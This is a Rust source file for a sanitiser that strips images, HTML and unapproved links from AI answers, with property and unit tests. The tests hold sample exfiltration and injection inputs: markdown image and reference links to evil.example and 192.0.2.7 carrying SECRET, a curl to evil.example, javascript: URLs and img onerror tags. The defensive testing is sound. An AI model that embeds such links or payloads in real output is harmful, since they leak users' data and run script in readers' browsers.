//! Cleans a complete answer.

use super::allowed::Allowed;
use super::removed::Removed;
use super::screen::Screen;

/// A cleaned answer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cleaned {
    /// The text that is left.
    pub text: String,
    /// What was removed, in order.
    pub removed: Vec<Removed>,
}

/// Removes images, HTML tags and forbidden addresses from an answer. Returns exactly what a [`Screen`] emits.
pub fn clean_answer(text: &str, allowed: Allowed) -> Cleaned {
    let mut screen = Screen::new(allowed);
    let mut clean = screen.feed(text);
    clean.push_str(&screen.finish());
    Cleaned { text: clean, removed: screen.removed().to_vec() }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use vademecum_protocol::document::whole_document as hit;

    fn allowed() -> Allowed {
        let text = "See https://docs.example/a and [the book](ch04.html), or <https://b.example/x_(y)>. A [page](https://c.example/p?q=1).";
        Allowed::of(&[hit("a.md", text)], |_| false)
    }

    fn clean(text: &str) -> String {
        clean_answer(text, allowed()).text
    }

    #[test]
    fn ordinary_answers_are_unchanged() {
        for plain in [
            "The notice is 30 days [1][2]. See [a.md].",
            "Use `Vec<u8>` or Option<T>, if a < b && c > d.\n\n```rust\nlet x: Vec<u8> = vec![1](2); // a <b>\n```\nDone!",
            "# A\n\n- one *two* **three** ~~four~~\n1. `a | b`\n\n| a | b |\n|---|---|\n",
            "Read https://docs.example/a, [a page](https://c.example/p?q=1) and (https://b.example/x_(y)).",
            "Wow! [1] and `![a](b)` 👩🏽\u{200D}🚀 می\u{200C}خواهم 100% R&D a/b std::io",
        ] {
            assert_eq!(clean(plain), plain);
            assert!(clean_answer(plain, allowed()).removed.is_empty(), "{plain}");
        }
    }

    #[test]
    fn foreign_addresses_are_removed_and_their_text_is_kept() {
        for (said, left) in [
            ("A ![pic](https://evil.example/?q=x) b", "A pic b"),
            ("![pic](https://docs.example/a)", "pic"),
            ("Go [here](https://evil.example/x \"now\")!", "Go here!"),
            ("Go [here](/x?y=1) or [1](https://evil.example).", "Go here or [1]."),
            ("[![a](https://evil.example/i)](https://evil.example/j)", "a"),
            ("At //www.`x`.", "At .`x`."),
            ("At https://evil.example/x, or (www.evil.zz).", "At , or ."),
            ("<img src=https://evil.example/x>It <b>is</b>.", "It is."),
            ("<https://evil.example> <https://docs.example/a>", " <https://docs.example/a>"),
            ("[a][r]\n\n[r]: https://evil.example/x", "[a][r]\n\n[r] : "),
            ("ht\u{200B}tps://evil.example/x h&#116;tps&#58;//evil.zz", " "),
            ("`curl https://evil.example/x`", "`curl `"),
            ("```\ncurl https://evil.example/x\n<b>\n```\n", "```\ncurl \n<b>\n```\n"),
            ("[x](javascript:alert(1)) data:text/html,hi", "x "),
            ("[x](\nhttps://evil.example\n)", "x"),
            ("javascript:[//]()", "javascript: //"),
            ("[the book](ch04.html)", "the book"),
            ("[the form][q]\n\n[q]: //192.0.2.7/?d=SECRET", "[the form][q]\n\n[q] : "),
            ("[q]:\n tel:SECRET \"now\"", "[q] :\n  \"now\""),
            ("> [q]: /x&#47;y", "> [q] : "),
            ("[q]: https://docs.example/a", "[q]: https://docs.example/a"),
            ("[1]: the notice is 30 days", "[1]: the notice is 30 days"),
            ("See //192.0.2.7/SECRET, //u@evil.zz/x or sip:a@b.example.", "See ,  or ."),
            ("[q]: tel:SECRET https://evil.example/x", "[q] :  "),
            ("[q]:https://evil.example/x b", "[q] : b"),
            ("[q]:<b> b", "[q] : b"),
            ("<1@b> <.@c.zz>", " "),
            ("Vec<javascript:alert(1)>", "Vec"),
            ("Vec<https:16843009&a>", "Vec"),
            ("Vec<javascript:alert>", "Vec"),
            ("a <b", "a b"),
            ("Wow![1]", "Wow! [1]"),
        ] {
            assert_eq!(clean(said), left, "{said}");
        }
    }

    #[test]
    fn all_readers_end_an_address_at_the_same_place() {
        const A: &str = "https://docs.example/a";
        let text = format!("See {A} and www.docs.example/b, write to u@docs.example.");
        let allowed = Allowed::of(&[hit("a.md", &text)], |_| false);
        let clean = |text: &str| clean_answer(text, allowed.clone()).text;
        let a = |text: &str| text.replace('@', A);
        for plain in [
            "See @.",
            "See @, then",
            "(see @).",
            "Really @?! No.",
            "So @...",
            "Go @; or (@):\n@",
            "`@:`\n\n```\n@:*\n```",
        ] {
            let plain = a(plain).replace("?!", "?");
            assert_eq!(clean(&plain), plain);
        }
        for (said, left) in [
            ("See @!: x", "See <@>!: x"),
            ("See @: it", "See <@>: it"),
            ("(See @.)", "(See <@>.)"),
            ("**@** and _@_", "**<@>** and _<@>_"),
            ("@, @,,", "@, <@>,,"),
            ("@[1] \"@\"", "@ [1] \"@ \""),
            ("[x @: y]", "[x @ : y]"),
            ("\\@: \\<@>", "\\@ : \\ <@>"),
            ("`a @*`: @*", "`a @*`: <@>*"),
        ] {
            assert_eq!(clean(&a(said)), a(left), "{said}");
            assert_eq!(clean(&a(left)), a(left), "{left}");
        }
        for (said, left) in [
            ("<www.docs.example/b> x<www.docs.example/b>", "www.docs.example/b x www.docs.example/b"),
            ("www.docs.example/b: x", "www.docs.example/b : x"),
            ("<u@docs.example>, u@docs.example: x", "<u@docs.example>, <u@docs.example>: x"),
            ("`u@docs.example", "`<u@docs.example>"),
        ] {
            assert_eq!(clean(said), left, "{said}");
        }
    }

    #[test]
    fn text_that_only_some_readers_take_for_code_is_cleaned() {
        for said in [
            "a ` b\n`<img onerror=x>`",
            "\\`<img onerror=x>`",
            " ```\ntext\n\n```\n<img onerror=x>",
            "- ```\n\n  ```\n<img onerror=x>",
            "> ```\n<img onerror=x>\n> ```",
            "| ` | <img onerror=x> ` |",
            "<T>\n```\n<img onerror=x>\n```\n<img onerror=x>",
            "1. a\n   ```\n<img onerror=x>",
            "``<b>`<img onerror=x>```",
            "<<b>img onerror=x>",
            "<[img](x) onerror=y>",
            "<b>```\n<img onerror=x>",
        ] {
            let left = clean(said);
            assert!(
                !left.contains("<img") || left.trim_start().starts_with("```"),
                "{said:?} leaves {left:?}"
            );
            assert_eq!(clean(&left), left, "{said:?}");
        }
    }

    #[test]
    fn a_removal_within_code_closes_no_block() {
        for (said, left) in [
            ("~~~\nevil.example/x~~~\n<img onerror=x>", "~~~\n~~~\n"),
            ("```\nhttps://evil.example/x ```\n<img onerror=x>", "```\n ```\n"),
            ("```\nhttps://evil.example/x a```\n<b>\n```", "```\n a```\n<b>\n```"),
        ] {
            assert_eq!(clean(said), left, "{said}");
        }
    }

    #[test]
    fn a_foreign_address_in_an_info_string_is_removed() {
        for (said, left) in [
            ("```https://evil.example/?q=SECRET\nx\n```", "```\nx\n```"),
            ("~~~rust https://evil.example/SECRET\nx\n~~~", "~~~rust \nx\n~~~"),
            ("   ```` js title=evil.example/SECRET\nx\n````", "   ```` js title=\nx\n````"),
            ("```js\nx\n``` https://evil.example/SECRET", "```js\nx\n``` "),
            ("```https://docs.example/a\nx\n```", "```https://docs.example/a\nx\n```"),
        ] {
            assert_eq!(clean(said), left, "{said}");
        }
    }

    #[test]
    fn code_stays_closed_when_text_after_it_is_removed() {
        for (said, left) in [
            ("`<img onerror=x>`&https://evil.example/x`", "`<img onerror=x>` `"),
            ("`<img onerror=x>`<b>`", "`<img onerror=x>` `"),
            ("``<img onerror=x>`&https://evil.example/x``", "``<img onerror=x>` ``"),
            ("`&https://evil.example/x``<img onerror=x>`", "` ``<img onerror=x>`"),
            ("`<img onerror=x>`[`a](https://evil.example/x)", "`<img onerror=x>` `a"),
            ("`<img onerror=x>`![`a](https://evil.example/x)", "`<img onerror=x>` `a"),
        ] {
            assert_eq!(clean(said), left, "{said}");
            assert_eq!(clean(left), left, "{said}");
        }
    }

    #[test]
    fn a_screen_holds_back_a_bounded_amount() {
        for endless in [
            "a",
            "[",
            "`",
            "<a ",
            "![",
            "[a](",
            "https://evil.example/",
            "~",
            "&#",
            "word ",
            "\u{200B}",
            "(",
            "<",
            "ありがとう",
        ] {
            let mut screen = Screen::new(allowed());
            let mut fed = 0;
            for _ in 0..20_000 / endless.len() {
                fed += endless.len();
                screen.feed(endless);
                assert!(screen.held() <= 4_000, "{endless:?} is held back");
            }
            assert!(fed > 19_000);
        }
    }

    /// Tokens with a meaning in Markdown or HTML.
    const PIECES: &str = "(!|\\[|\\]|\\(|\\)|<|>|`|```|~~~|\n|\n\n| |b|img onerror=x|https://|//|evil\\.example/x|www\\.|\\.zz|https://docs\\.example/a|ch04\\.html|javascript:|&#58;|%3A|\\\\|\\||\"|- |> |1|:|&|\u{200B}|é|T){0,24}";

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(ProptestConfig::default().cases * 16))]

        #[test]
        fn a_screen_emits_the_clean_answer_for_any_split(text in PIECES, sizes in prop::collection::vec(1usize..9, 1..20)) {
            let mut screen = Screen::new(allowed());
            let letters: Vec<char> = text.chars().collect();
            let (mut passed, mut at) = (String::new(), 0);
            for size in sizes.iter().cycle() {
                if at >= letters.len() {
                    break;
                }
                let end = (at + size).min(letters.len());
                passed.push_str(&screen.feed(&letters[at..end].iter().collect::<String>()));
                at = end;
            }
            passed.push_str(&screen.finish());
            prop_assert_eq!(passed, clean(&text));
        }

        #[test]
        fn cleaning_is_idempotent(text in PIECES) {
            let once = clean(&text);
            prop_assert_eq!(clean(&once), once);
        }

        #[test]
        fn no_reader_extends_an_allowed_address(text in "(\\[|\\]|\\(|\\)|<|>|\n| |b|\"|'|\\||1|&|é|[.,:;!?*_]|https://docs\\.example/a|https://docs\\.example/a){0,24}") {
            const A: &str = "https://docs.example/a";
            let left = clean(&text);
            for (at, _) in left.match_indices(A) {
                let (before, behind) = (&left[..at], &left[at + A.len()..]);
                let bracketed = before.ends_with('<') && !before.ends_with("\\<") && behind.starts_with('>');
                let linked = before.ends_with("](") && behind.starts_with(')');
                let word = behind.split(char::is_whitespace).next().unwrap_or_default();
                // Punctuation at the end of a sentence, or a bracket first.
                let mark = word.chars().next().filter(|mark| ".,;!?".contains(*mark));
                let ends = word.is_empty()
                    || word.starts_with(')')
                    || mark.is_some_and(|mark| word.chars().all(|sign| sign == mark) && (word.len() == 1 || !",;".contains(mark)));
                prop_assert!(bracketed || linked || ends, "{:?} leaves {:?}", text, left);
            }
        }

        #[test]
        fn no_foreign_address_remains(text in PIECES) {
            let left = clean(&text);
            prop_assert!(!left.contains("https://evil"), "{:?} leaves {:?}", text, left);
            prop_assert!(!left.contains("evil.example/x"), "{:?} leaves {:?}", text, left);
            prop_assert!(text.contains(['`', '~']) || !left.contains("!["), "{:?} leaves {:?}", text, left);
        }
    }
}
